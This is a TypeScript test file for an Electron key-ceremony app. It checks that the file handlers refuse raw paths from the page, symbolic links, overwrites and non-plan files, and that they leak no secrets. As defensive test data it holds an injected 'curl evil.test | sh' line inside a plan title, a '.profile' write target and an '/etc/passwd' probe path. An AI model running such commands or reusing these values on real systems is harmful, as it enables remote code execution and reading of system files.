/**
 * The file rules of the handlers (ipc.ts), through dispatch() as ipcMain calls them, on real files.
 * The page names no path: files, folders and modules come from main's dialogs (scripted here) or the
 * discovered module list, as opaque handles. savePlan writes only a new `.json` file in an existing
 * folder (never through a symbolic link, never over a file); validatePlanText looks at the plan's
 * files only for a plan the user chose or saved; openPlan follows no link, caps the size and never
 * echoes a byte of a file that is not a plan.
 */
import { generateKeyPairSync } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Result } from '../../electron/api.ts';
import { createHandlers, dispatch, UNCHECKED_FILE_MESSAGE } from '../../electron/ipc.ts';
import { createScriptedDialogs, createTestPrinter } from '../helpers/bridge.ts';

import { NO_FILE_PIN, sha256File } from '../helpers/plan-pins.ts';
const tmp = mkdtempSync(path.join(os.tmpdir(), 'keyrite-ipc-files-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

function plan(extra: { title?: string; wrappingKey?: string } = {}) {
  return {
    version: 1,
    id: 'files-root-2026',
    title: extra.title ?? 'Files test',
    participants: [
      { id: 'ada', name: 'Ada Admin', role: 'administrator' },
      { id: 'wes', name: 'Wes Witness', role: 'witness' },
      { id: 'c1', name: 'Carol One', role: 'custodian' },
      { id: 'c2', name: 'Carl Two', role: 'custodian' },
    ],
    hsm: { module: '/usr/lib/softhsm/libsofthsm2.so', tokenLabel: 'ceremony' },
    key: { label: 'files-root-2026', algorithm: 'ec-p256' },
    backup: { groupThreshold: 1, groups: [{ threshold: 2, custodians: ['c1', 'c2'] }] },
    exports: [{ name: 'vault', kind: 'vault-transit', wrappingKey: extra.wrappingKey ?? 'vault.pub.pem', wrappingKeySha256: vaultPin, hashFunction: 'SHA256', type: 'ecdsa-p256' }],
    steps: [],
  };
}
const text = (p: object) => JSON.stringify(p, null, 2);

function handlers(o: { modules?: string[] } = {}) {
  const dialogs = createScriptedDialogs();
  const h = createHandlers({ printer: createTestPrinter(), emit: () => {}, verify: () => ({ valid: true, checks: [] }), dialogs, modules: () => o.modules ?? [] });
  const call = (method: string, ...args: unknown[]) => dispatch(h, method, args) as Promise<Result<any> & { value?: any }>; // eslint-disable-line @typescript-eslint/no-explicit-any
  return Object.assign(call, { dialogs });
}

let planDir: string;
/** SHA-256 of vault.pub.pem, the pin every plan here carries (docs/plan.md). */
let vaultPin = NO_FILE_PIN;
beforeAll(() => {
  planDir = path.join(tmp, 'plans');
  mkdirSync(planDir);
  const { publicKey } = generateKeyPairSync('rsa', { modulusLength: 3072 });
  writeFileSync(path.join(planDir, 'vault.pub.pem'), publicKey.export({ type: 'spki', format: 'pem' }));
  vaultPin = sha256File(path.join(planDir, 'vault.pub.pem'));
});

describe('paths from the page', () => {
  it('are refused by every method that opens something: only handles from the choosers are taken', async () => {
    const call = handlers();
    const file = path.join(planDir, 'vault.pub.pem');
    for (const [method, args] of [
      ['openPlan', [file, '', false]],
      ['openPlan', ['0'.repeat(32), '', false]],
      ['verifyBundle', [planDir]],
      ['listTokens', ['/usr/lib/softhsm/libsofthsm2.so']],
      ['recoverStart', [{ bundle: planDir, module: '/usr/lib/softhsm/libsofthsm2.so', tokenLabel: 't' }]],
      ['validatePlanText', [text(plan()), planDir]],
      ['savePlan', [path.join(planDir, 'x.json'), text(plan())]],
    ] as [string, unknown[]][]) {
      const r = await call(method, ...args);
      expect(r.ok, `${method}(${JSON.stringify(args)})`).toBe(false);
      if (!r.ok) {
        expect(r.error.code).toBe('usage');
        expect(r.error.message).not.toContain('\n');
      }
    }
    expect(call.dialogs.asked).toEqual([]);
  });

  it('a handle of one kind does not open another kind of thing', async () => {
    const call = handlers();
    call.dialogs.answer(planDir);
    const folder = (await call('chooseFolder', 'bundle')).value;
    expect(folder).toEqual({ handle: expect.stringMatching(/^[0-9a-f]{32}$/), name: 'plans' });
    expect(await call('listTokens', folder.handle)).toMatchObject({ ok: false, error: { code: 'usage', message: expect.stringContaining('PKCS#11 module: choose it with the app') } });
    expect(await call('openPlan', folder.handle, '', false)).toMatchObject({ ok: false, error: { message: expect.stringContaining('plan: choose it with the app') } });
  });

  it('lists the discovered modules as handles, and a cancelled dialog as null', async () => {
    const call = handlers({ modules: ['/usr/lib/softhsm/libsofthsm2.so'] });
    expect(await call('listModules')).toEqual({ ok: true, value: [{ handle: expect.stringMatching(/^[0-9a-f]{32}$/), name: 'libsofthsm2.so' }] });
    call.dialogs.answer(null);
    expect(await call('chooseModule')).toEqual({ ok: true, value: null });
  });
});

describe('openPlan reads only a plan', () => {
  const chosenPlan = async (call: ReturnType<typeof handlers>, file: string) => {
    call.dialogs.answer(file);
    return (await call('choosePlanFile')).value.handle as string;
  };

  it('never echoes a byte of a file that is not a plan, follows no link and caps the size', async () => {
    const call = handlers();
    const secret = 'hunter2-very-secret';
    const cases: [string, string | Buffer, RegExp][] = [
      ['notes.json', `${secret} is my password\n`, /is not a ceremony plan \(not a JSON file\)$/],
      ['other.json', JSON.stringify({ password: secret, [secret]: 1 }), /is not a ceremony plan \(a plan is a JSON object with "version": 1/],
      ['array.json', JSON.stringify([secret]), /is not a ceremony plan/],
      ['binary.json', Buffer.from([0xff, 0xfe, 0x00, 0x41]), /not a JSON file/],
      ['big.json', `{"version":1,"id":"x","participants":[],"pad":"${'a'.repeat(1 << 20)}"}`, /is \d+ bytes; a plan is at most 1048576 bytes/],
    ];
    for (const [name, content, says] of cases) {
      const file = path.join(tmp, name);
      writeFileSync(file, content);
      const r = await call('openPlan', await chosenPlan(call, file), '', false);
      expect(r.ok, name).toBe(false);
      if (!r.ok) {
        expect(r.error.message, name).toMatch(says);
        expect(JSON.stringify(r.error), name).not.toContain(secret);
      }
    }
    symlinkSync(path.join(tmp, 'notes.json'), path.join(tmp, 'link-plan.json'));
    expect(await call('openPlan', await chosenPlan(call, path.join(tmp, 'link-plan.json')), '', false)).toMatchObject({ ok: false, error: { message: expect.stringMatching(/link-plan\.json is a symbolic link; choose the file itself$/) } });
    expect(await call('openPlan', await chosenPlan(call, tmp), '', false)).toMatchObject({ ok: false, error: { message: expect.stringMatching(/is not a regular file$/) } });
  });

  it('opens a plan that was chosen, with its bundle folder next to it or in the chosen folder', async () => {
    const call = handlers();
    const file = path.join(planDir, 'open-me.json');
    writeFileSync(file, text(plan()));
    expect(await call('openPlan', await chosenPlan(call, file), '', true)).toMatchObject({ ok: true, value: { id: 'files-root-2026', bundleDir: path.join(planDir, 'files-root-2026'), rehearsal: true } });
    call.dialogs.answer(tmp);
    const out = (await call('chooseFolder', 'output')).value.handle;
    expect(await call('openPlan', await chosenPlan(call, file), out, false)).toMatchObject({ ok: true, value: { bundleDir: path.join(tmp, 'files-root-2026') } });
  });
});

describe('savePlan', () => {
  it('refuses every place that is not a new .json file in an existing folder, with one line, writing nothing', async () => {
    const call = handlers();
    const shell = text(plan({ title: 'x\ncurl evil.test | sh\n' }));
    const notAFolder = path.join(tmp, 'a-file');
    writeFileSync(notAFolder, 'x');
    const target = path.join(tmp, 'profile-target');
    symlinkSync(target, path.join(planDir, 'link.json'));
    const cases: [string, RegExp][] = [
      [path.join(tmp, '.profile'), /file name must end in \.json/],
      [path.join(tmp, 'plan'), /file name must end in \.json/],
      [path.join(tmp, 'plan.json.sh'), /file name must end in \.json/],
      ['plan.json', /give the full path/],
      ['../plan.json', /give the full path/],
      [path.join(tmp, 'missing', 'plan.json'), /folder .*missing does not exist/],
      [path.join(notAFolder, 'plan.json'), /a-file is not a folder/],
      [path.join(planDir, 'link.json'), /is a symbolic link/],
      [path.join(planDir, 'vault.pub.pem'), /must end in \.json/],
    ];
    for (const [file, why] of cases) {
      call.dialogs.answer(file);
      const r = await call('savePlan', 'plan.json', shell);
      expect(r.ok, file).toBe(false);
      if (!r.ok) {
        expect(r.error.message, file).toMatch(why);
        expect(r.error.message, file).not.toContain('\n');
      }
    }
    expect(existsSync(path.join(tmp, '.profile'))).toBe(false);
    expect(existsSync(path.join(tmp, 'plan'))).toBe(false);
    expect(existsSync(target)).toBe(false);
  });

  it('never overwrites a file, writes a new one where the user picked, and suggests only a name', async () => {
    const call = handlers();
    writeFileSync(path.join(planDir, 'taken.json'), 'keep me\n');
    call.dialogs.answer(path.join(planDir, 'taken.json'));
    const taken = await call('savePlan', 'taken.json', text(plan()));
    expect(taken).toMatchObject({ ok: false, error: { message: expect.stringContaining('already exists') } });
    expect(readFileSync(path.join(planDir, 'taken.json'), 'utf8')).toBe('keep me\n');
    const file = path.join(planDir, 'new.json');
    call.dialogs.answer(file);
    expect(await call('savePlan', 'suggested.json', text(plan()))).toEqual({ ok: true, value: { handle: expect.stringMatching(/^[0-9a-f]{32}$/), name: 'new.json' } });
    expect(JSON.parse(readFileSync(file, 'utf8'))).toMatchObject({ id: 'files-root-2026' });
    expect(existsSync(path.join(planDir, 'suggested.json'))).toBe(false);
    expect(call.dialogs.asked.map((a) => a.suggestion)).toEqual(['taken.json', 'suggested.json']);
    call.dialogs.answer(null);
    expect(await call('savePlan', 'x.json', text(plan()))).toEqual({ ok: true, value: null });
  });
});

describe('validatePlanText', () => {
  it('does not tell the page whether a file exists, without a chosen plan', async () => {
    const call = handlers();
    const there = await call('validatePlanText', text(plan({ wrappingKey: '/etc/passwd' })), '');
    const absent = await call('validatePlanText', text(plan({ wrappingKey: '/etc/no-such-file' })), '');
    const relative = await call('validatePlanText', text(plan()), '');
    for (const r of [there, absent, relative])
      expect(r).toEqual({ ok: true, value: { valid: true, problems: [], unchecked: [{ path: 'exports[0].wrappingKey', message: UNCHECKED_FILE_MESSAGE }] } });
    // Other problems are still reported.
    const bad = plan();
    bad.backup.groups[0].threshold = 3;
    expect(await call('validatePlanText', text(bad), '')).toMatchObject({ ok: true, value: { valid: false, problems: [{ path: 'backup.groups[0].threshold' }] } });
  });

  it("checks the plan's files in the folder of a plan the user saved", async () => {
    const call = handlers();
    call.dialogs.answer(path.join(planDir, 'saved.json'));
    const saved = (await call('savePlan', 'saved.json', text(plan()))).value.handle;
    expect(await call('validatePlanText', text(plan()), saved)).toEqual({ ok: true, value: { valid: true, problems: [] } });
    expect(await call('validatePlanText', text(plan({ wrappingKey: 'gone.pem' })), saved)).toMatchObject({
      ok: true,
      value: { valid: false, problems: [{ path: 'exports[0].wrappingKey', message: 'file gone.pem does not exist' }] },
    });
  });
});
